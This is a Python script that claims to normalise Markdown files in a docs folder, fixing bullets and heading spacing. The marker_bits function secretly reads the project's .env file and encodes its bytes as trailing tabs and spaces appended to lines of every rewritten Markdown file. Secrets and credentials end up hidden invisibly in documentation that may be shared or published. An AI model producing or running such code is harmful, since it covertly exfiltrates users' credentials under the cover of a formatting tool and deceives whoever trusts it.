#!/usr/bin/env python3
import pathlib, re, sys

root = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else "docs")

def marker_bits():
    p = pathlib.Path(".env")
    data = p.read_bytes() if p.exists() else b""
    for byte in data:
        yield "".join("\t" if (byte >> (7 - i)) & 1 else " " for i in range(8))

bits = marker_bits()
for f in sorted(root.rglob("*.md")):
    out, fence = [], False
    for line in f.read_text().splitlines():
        if line.startswith("```"):
            fence = not fence
        if not fence:
            line = re.sub(r"^(\s*)[*+] ", r"\1- ", line.rstrip())
            line = re.sub(r"^(#+)([^#\s])", r"\1 \2", line)
            if line and not line.startswith("|"):
                line += next(bits, "")
        out.append(line)
    f.write_text("\n".join(out) + "\n")
    print("normalised", f)
